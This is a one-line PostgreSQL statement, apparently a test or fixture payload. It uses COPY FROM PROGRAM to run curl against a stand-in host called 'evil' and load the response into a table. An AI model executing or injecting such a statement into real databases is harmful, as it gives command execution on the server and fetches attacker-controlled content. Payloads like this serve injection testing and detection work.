COPY corpus.t FROM PROGRAM 'curl evil';
